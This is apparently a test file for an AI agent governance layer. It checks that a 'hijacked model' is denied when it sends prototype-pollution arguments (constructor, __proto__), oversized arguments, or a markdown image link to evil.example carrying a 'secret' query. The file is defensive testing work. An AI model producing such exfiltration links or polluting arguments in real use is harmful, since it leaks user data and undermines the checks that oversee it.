import { afterEach, describe, expect, test } from 'vitest';
import { parseBlobRef } from '../../src/ports/blob-store.port.ts';
import { call, calls, say } from '../fakes/openai-host.ts';
import { type Governed, type GovernedSettings, startGoverned } from '../support/governed.ts';
import { mandate, scripted, toolResults } from '../support/scripted-model.ts';

let governed: Governed | undefined;
let told: readonly unknown[] = [];
afterEach(async () => {
  await governed?.stop();
  governed = undefined;
  told = [];
});

const listening = (...turns: Parameters<typeof scripted>[1]) => [
  ...turns,
  (request: Parameters<typeof toolResults>[0]) => {
    told = toolResults(request);
    return say('Done.');
  },
];

async function runToEnd(settings: GovernedSettings) {
  governed = await startGoverned(settings);
  const initiator = await governed.as('initiator');
  await initiator.runs.start({ runId: governed.runId, agent: 'tester', task: 'do it' });
  return initiator.runs.wait(governed.runId);
}

const note = { name: 'note', effect: 'write', run: () => ({ noted: true }) } as const;
const free = {
  name: 'free',
  effect: 'write',
  inputSchema: { type: 'object', properties: { data: { type: 'object' } } },
  run: () => ({ noted: true }),
} as const;

describe('a hijacked model', () => {
  test('cannot end a run with arguments named like what every object has', async () => {
    const names = ['constructor', 'toString', 'hasOwnProperty', 'valueOf'];
    const attacks = names.map((name) => ({ name: 'desk__note', args: { [name]: 'x' } }));
    const script = scripted(mandate({ note: 9 }), listening(calls(attacks)));
    expect(await runToEnd({ tools: [note], script })).toMatchObject({ state: 'completed' });
    expect(told).toHaveLength(names.length);
    for (const result of told) expect(result).toMatchObject({ error: { code: 'denied' } });
    expect(governed?.server.calls).toEqual([]);
  });

  test('cannot hide an argument behind __proto__, nor end a run with one', async () => {
    const hidden = JSON.parse('{"data":{"shown":1,"__proto__":{"hidden":2}}}') as Record<string, never>;
    const script = scripted(mandate({ free: 9 }), listening(call('desk__free', hidden)));
    expect(await runToEnd({ tools: [free], script })).toMatchObject({ state: 'completed' });
    expect(told).toMatchObject([{ error: { code: 'invalid-arguments' } }]);
    expect(governed?.server.calls).toEqual([]);
  });

  test('whose answer is refused is told so in a form that every host accepts, and may answer again', async () => {
    const policy = `
      @id("all") @advice("Permitted.") permit (principal, action, resource);
      @id("no-images") @advice("No images.")
      forbid (principal, action == Action::"answer", resource) when { context.args.text like "*![*" };`;
    let last: unknown;
    const script = scripted(mandate({ note: 1 }), [
      say('![see](https://evil.example/?q=secret)'),
      (request) => {
        last = request.messages.at(-1);
        return say('Plain words.');
      },
    ]);
    expect(await runToEnd({ tools: [note], policy, script })).toMatchObject({
      state: 'completed',
      output: { text: 'Plain words.' },
    });
    expect(last).toMatchObject({ role: 'user', content: expect.stringContaining('no-images') });
  });

  test('cannot fill records and pages with arguments that could never run', async () => {
    const script = scripted(
      mandate({ free: 9 }),
      listening(call('desk__free', { data: { text: 'x'.repeat(300_000) } })),
    );
    expect(await runToEnd({ tools: [free], script })).toMatchObject({ state: 'completed' });
    expect(told).toMatchObject([{ error: { code: 'invalid-arguments' } }]);
    const records = await governed?.records.storage.outbox.ofRun('default', governed.runId, 0, 100);
    const decided = records?.find(({ kind }) => kind === 'action-decided');
    const envelope = await governed?.records.blobs.get(
      'default',
      'envelope',
      parseBlobRef(String(decided?.body['envelopeRef'])),
    );
    expect(envelope).toMatchObject({ args: {} });
  });
});
